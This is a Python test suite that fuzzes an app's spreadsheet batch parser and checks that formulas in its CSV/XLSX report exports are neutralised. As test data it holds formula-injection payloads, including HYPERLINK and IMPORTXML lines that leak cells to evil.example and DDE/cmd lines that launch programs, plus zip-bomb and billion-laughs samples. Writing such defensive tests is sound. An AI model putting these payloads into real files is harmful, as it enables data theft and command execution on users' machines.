"""Hostile spreadsheets: the parser only ever answers with a sheet or our own error, formulas are text
on the way in and neutralised on the way out (the batch report, CSV and XLSX, alone and inside the
results ZIP), 5k+ rows and mixed encodings are handled or refused clearly, and zip bombs are
refused before anything inflates them (perf-reliability.md §8.2)."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from app.models.batches import BatchRow
from app.services import batch
from app.services.batch.report import FORMULA_PREFIXES, ZipEntryPlan, _report_xlsx, escape_cell, report_csv
from app.services.platform import PayloadTooLarge, ServiceError, UnsupportedFile
from app.settings import get_settings

FUZZ = settings(max_examples=150, deadline=None, database=None, derandomize=True)
SLOW_FUZZ = settings(
    max_examples=40,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
CLEAR_STATUSES = {413, 415, 422}

# What spreadsheet programs run as formulas or commands (CWE-1236, ASVS 1.2.10).
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


def parse_or_clear_error(name: str, data: bytes) -> batch.ParsedSheet | None:
    """The parser's only two outcomes: a sheet, or a ServiceError with a 4xx status and a message."""
    try:
        return batch.parse_sheet(name, data)
    except ServiceError as exc:
        assert exc.status in CLEAR_STATUSES, (exc.status, exc.message)
        assert exc.message and len(exc.message) < 300
        return None


def xlsx_of(rows: list[list[object]], *, as_text: bool = True) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
        if as_text:
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # text that looks like a formula, as Excel keeps it
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_of(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


# --- any bytes -------------------------------------------------------------------------------

NAMES = st.sampled_from(["p.csv", "p.xlsx", "p.tsv", "p.txt", "p.xls", "p", "../../p.csv"])
PREFIXES = st.sampled_from(
    [
        b"",
        b"PK\x03\x04",
        b"PK\x05\x06",
        codecs.BOM_UTF8,
        codecs.BOM_UTF16_LE,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    ]
)


@FUZZ
@given(prefix=PREFIXES, body=st.binary(max_size=4096), name=NAMES)
def test_random_bytes_give_a_sheet_or_our_error(prefix: bytes, body: bytes, name: str) -> None:
    parse_or_clear_error(name, prefix + body)


GOOD_XLSX = xlsx_of(
    [["product_name", "description"], ["Mug", "Stoneware"], ["Plate", "=1+1"]]
)  # once: it holds a time


@SLOW_FUZZ
@given(data=st.data())
def test_a_damaged_workbook_gives_our_error(data: st.DataObject) -> None:
    good = GOOD_XLSX
    at = data.draw(st.integers(0, len(good) - 1), label="at")
    noise = data.draw(st.binary(min_size=1, max_size=64), label="noise")
    cut = data.draw(st.booleans(), label="truncate")
    damaged = good[:at] + (b"" if cut else noise + good[at + len(noise) :])
    parse_or_clear_error("p.xlsx", damaged)


# --- formulas are text on import -------------------------------------------------------------

PRINTABLE = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=30)
CELL = st.one_of(
    st.sampled_from(INJECTIONS),
    st.builds(lambda p, t: p + t, st.sampled_from(["=", "+", "-", "@"]), PRINTABLE),
    PRINTABLE,
)


@FUZZ
@given(cells=st.lists(CELL, min_size=1, max_size=6))
def test_formula_like_cells_import_as_their_text(cells: list[str]) -> None:
    """What the marketer typed is what the batch gets, formula or not: nothing is evaluated."""
    rows = [["product_name", "notes"], *[["item", c] for c in cells]]
    for name, data in (("p.csv", csv_of(rows)), ("p.xlsx", xlsx_of(rows))):
        parsed = parse_or_clear_error(name, data)
        if parsed is None:
            continue
        got = {r.values[1] for r in parsed.rows if len(r.values) > 1}
        for cell in cells:
            expected = batch.sheets._clean_cell(cell)
            if expected:
                assert expected in got, (name, cell, got)


def test_a_real_formula_cell_is_read_as_its_cached_value_never_run() -> None:
    data = xlsx_of(
        [["product_name", "notes"], ["Mug", '=HYPERLINK("http://evil.example","x")']], as_text=False
    )
    parsed = batch.parse_sheet("p.xlsx", data)
    # openpyxl writes no cached value, so the formula reads as an empty cell, not as a link or a result.
    assert parsed.rows[0].values[0] == "Mug" and parsed.rows[0].values[1:] in ([], [""])


# --- formulas are neutralised on export ------------------------------------------------------


def _entries(names: list[str], messages: list[str]) -> list[ZipEntryPlan]:
    entries = []
    for number, (name, message) in enumerate(zip(names, messages, strict=True), start=2):
        row = BatchRow(
            batch_id="b",
            user_id="u",
            row_number=number,
            product_name=name,
            kind="image",
            status="failed",
            error_code="VALIDATION_ERROR",
            error_message=message,
            params_json='{"params": {"style": "=1+2"}}',
        )
        entries.append(ZipEntryPlan(row, None, [], f"Row {number}", []))
    return entries


def _dangerous(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_PREFIXES)


HOSTILE_TEXT = st.one_of(
    st.sampled_from(INJECTIONS), CELL, st.builds(lambda t: " " + t, st.sampled_from(INJECTIONS))
)


@FUZZ
@given(values=st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=5))
def test_the_batch_report_never_exports_a_formula(values: list[tuple[str, str]]) -> None:
    names = [v[0] for v in values]
    messages = [v[1] for v in values]
    entries = _entries(names, messages)
    text = report_csv(entries).decode("utf-8-sig")
    for record in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        for cell in record:
            assert not _dangerous(cell), record
    workbook = load_workbook(io.BytesIO(_report_xlsx(entries)))
    for row in workbook.active.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not _dangerous(cell.value), cell.value


@pytest.mark.parametrize("value", [*INJECTIONS, " =1+1", "  @SUM(A1)"])
def test_escape_cell_prefixes_every_formula_starter(value: str) -> None:
    escaped = escape_cell(value)
    assert escaped.startswith("'") and escaped[1:] == value


def test_plain_values_are_exported_unchanged() -> None:
    for value in ("Mug", "12.50", "Café crème", "", 3, None):
        assert escape_cell(value) == value


# --- size: 5k+ rows, wide, long cells --------------------------------------------------------


def test_the_row_limit_is_accepted_and_one_more_is_refused_clearly() -> None:
    limit = get_settings().batch_max_rows
    assert limit >= 5000
    rows = [["product_name", "description"]] + [[f"Mug {i}", "=1+1"] for i in range(limit)]
    parsed = batch.parse_sheet("p.csv", csv_of(rows))
    assert len(parsed.rows) == limit and parsed.rows[-1].number == limit + 1
    with pytest.raises(ServiceError) as refused:
        batch.parse_sheet("p.csv", csv_of([*rows, ["one more", "x"]]))
    assert refused.value.status == 422 and f"{limit:,}" in refused.value.message


def test_a_6000_row_workbook_is_refused_clearly() -> None:
    rows: list[list[object]] = [["product_name"]] + [[f"Mug {i}"] for i in range(6000)]
    with pytest.raises(ServiceError) as refused:
        batch.parse_sheet("p.xlsx", xlsx_of(rows))
    assert refused.value.status == 422 and "rows" in refused.value.message


def test_a_million_blank_lines_and_a_huge_cell_stop_early() -> None:
    parsed = parse_or_clear_error("p.csv", b"product_name\n" + b",\n" * 1_000_000 + b"Mug\n")
    assert parsed is None or [r.values for r in parsed.rows] == [["Mug"]]
    big = b"product_name\n" + b"x" * (get_settings().batch_max_cell_chars + 10) + b"\n"
    assert parse_or_clear_error("p.csv", big) is None
    wide = ",".join(f"c{i}" for i in range(1000)).encode() + b"\n" + b"1," * 999 + b"1\n"
    assert parse_or_clear_error("p.csv", wide) is None


# --- encodings -------------------------------------------------------------------------------

ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1"]
WORDS = st.text(
    alphabet=st.sampled_from(list("abcxyzABC 0123456789éèàüßçñÉ€œ’–Ωжш中文😀=+-@\"'")),
    min_size=1,
    max_size=12,
).filter(lambda s: s.strip())


@FUZZ
@given(
    table=st.lists(st.lists(WORDS, min_size=2, max_size=2), min_size=1, max_size=6),
    encoding=st.sampled_from(ENCODINGS),
)
def test_each_common_encoding_reads_back_the_same_text(table: list[list[str]], encoding: str) -> None:
    rows = [["product_name", "notes"], *table]
    try:
        data = csv_of(rows, encoding)
    except UnicodeEncodeError:
        data = csv_of(
            [[c.encode(encoding, "ignore").decode(encoding) or "x" for c in r] for r in rows], encoding
        )
    parsed = parse_or_clear_error("p.csv", data)
    if parsed is None:
        return
    written = list(csv.reader(io.StringIO(data.decode(encoding).lstrip("\ufeff"), newline="")))
    expected = [[batch.sheets._clean_cell(c) for c in r] for r in written[1:]]
    assert [r.values for r in parsed.rows] == [r for r in expected if any(r)]


@FUZZ
@given(parts=st.lists(st.tuples(WORDS, st.sampled_from(ENCODINGS)), min_size=2, max_size=6))
def test_a_file_mixing_encodings_parses_or_is_refused_clearly(parts: list[tuple[str, str]]) -> None:
    data = b"product_name,notes\r\n"
    for text, encoding in parts:
        data += f"item,{text}\r\n".encode(encoding, errors="replace")
    parsed = parse_or_clear_error("p.csv", data)
    if parsed is not None:
        assert parsed.columns[0] == "product_name" or parsed.encoding in ("utf-16-le", "utf-16-be", "utf-16")


# --- zip bombs -------------------------------------------------------------------------------


SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _with_shared_strings(payload: bytes) -> bytes:
    """A real workbook whose cell A2 is shared string 0, the shared strings part being ``payload``."""
    good = xlsx_of([["product_name"], ["Mug"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(
                    b'<c r="A2" t="inlineStr"><is><t>Mug</t></is></c>', b'<c r="A2" t="s"><v>0</v></c>'
                )
            elif info.filename == "xl/_rels/workbook.xml.rels":
                rel = f'<Relationship Id="rIdSst" Type="{SST_REL}" Target="sharedStrings.xml"/>'
                body = body.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
            elif info.filename == "[Content_Types].xml":
                override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'
                body = body.replace(b"</Types>", override.encode() + b"</Types>")
            dst.writestr(info, body)
        dst.writestr("xl/sharedStrings.xml", payload)
    return out.getvalue()


def _sst(text: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<si><t>" + text + b"</t></si></sst>"
    )


def test_the_shared_strings_workbook_itself_parses() -> None:
    parsed = batch.parse_sheet("p.xlsx", _with_shared_strings(_sst(b"Shared mug")))
    assert [r.values for r in parsed.rows] == [["Shared mug"]]


def test_huge_shared_strings_are_refused_before_inflating() -> None:
    limit = get_settings().batch_xlsx_max_uncompressed_bytes
    bomb = _with_shared_strings(_sst(b"A" * (limit + 1024)))
    assert len(bomb) < limit // 200  # small on the wire, huge inflated
    with pytest.raises(PayloadTooLarge):
        batch.parse_sheet("p.xlsx", bomb)


def test_a_member_lying_about_its_size_is_refused() -> None:
    """The declared size is small, the deflated data is 50 MB: zipfile stops at the declared size."""
    payload = _sst(b"A" * (50 * 1024 * 1024))
    data = bytearray(_with_shared_strings(payload))
    real = len(payload).to_bytes(4, "little")
    assert data.count(real) == 2  # the local header and the central directory entry
    data = data.replace(real, (1000).to_bytes(4, "little"))
    assert parse_or_clear_error("p.xlsx", bytes(data)) is None


def test_billion_laughs_in_shared_strings_is_refused() -> None:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    xml = f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst><si><t>&a9;</t></si></sst>'.encode()
    assert parse_or_clear_error("p.xlsx", _with_shared_strings(xml)) is None


def test_too_many_parts_are_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        for i in range(batch.sheets.XLSX_MAX_ENTRIES + 1):
            z.writestr(f"xl/x{i}.xml", "")
    with pytest.raises(UnsupportedFile):
        batch.parse_sheet("p.xlsx", out.getvalue())


# --- every sheet we export, end to end -------------------------------------------------------


def _cells_of_csv(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def _assert_neutral(cells: list[str], where: str) -> None:
    hostile = [c for c in cells if _dangerous(c)]
    assert not hostile, f"{where} exports formulas: {hostile}"
    assert any(c.startswith("'") and _dangerous(c[1:]) for c in cells), (
        f"{where}: no hostile cell was exported"
    )


def test_every_exported_sheet_neutralises_formulas(client) -> None:
    """The batch report (CSV, XLSX and inside the results ZIP) and the A/B variants manifest, from a
    sheet and a prompt full of formulas, through the API."""
    from tests.support.api_fixtures import run_pending, sign_up

    _, h = sign_up(client, "formulas@example.com", 100)
    rows = [["product_name", "description", "style"]] + [[v, v, "studio"] for v in INJECTIONS[:5]]
    created = client.post(
        "/api/v1/batches", files={"file": ("hostile.csv", csv_of(rows), "text/csv")}, headers=h
    )
    assert created.status_code == 201, created.text
    batch_id = created.json()["batch_id"]
    # What was imported is the text typed, formulas included (treated as text).
    assert [p["product_name"] for p in created.json()["preview"]] == [
        batch.sheets._clean_cell(v) for v in INJECTIONS[:5]
    ]
    mapped = client.put(
        f"/api/v1/batches/{batch_id}/mapping",
        json={
            "mapping": {"product_name": "product_name", "description": "description"},
            "defaults": {"kind": "image", "model": "local-image"},
        },
        headers=h,
    )
    assert mapped.status_code == 200, mapped.text
    assert client.post(f"/api/v1/batches/{batch_id}/start", headers=h).status_code == 202
    run_pending()

    report = client.get(f"/api/v1/batches/{batch_id}/report", params={"format": "csv"}, headers=h)
    assert report.status_code == 200, report.text
    _assert_neutral(_cells_of_csv(report.content), "the batch report CSV")

    xlsx = client.get(f"/api/v1/batches/{batch_id}/report", params={"format": "xlsx"}, headers=h)
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    _assert_neutral(
        [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None], "the XLSX report"
    )

    results = client.get(f"/api/v1/batches/{batch_id}/zip", headers=h)
    assert results.status_code == 200, results.text
    with zipfile.ZipFile(io.BytesIO(results.content)) as z:
        reports = [n for n in z.namelist() if n.endswith(".csv")]
        assert reports, z.namelist()
        for name in reports:
            _assert_neutral(_cells_of_csv(z.read(name)), f"{name} in the results ZIP")

    base = {"prompt": INJECTIONS[0], "model": "local-image"}
    made = client.post(
        "/api/v1/variant-sets",
        json={"kind": "image", "dimension": "seed", "count": 2, "base": base},
        headers=h,
    )
    assert made.status_code == 202, made.text
    run_pending()
    export = client.get(f"/api/v1/variant-sets/{made.json()['set_id']}/export.zip", headers=h)
    assert export.status_code == 200, export.text
    with zipfile.ZipFile(io.BytesIO(export.content)) as z:
        _assert_neutral(_cells_of_csv(z.read("manifest.csv")), "the variants manifest")
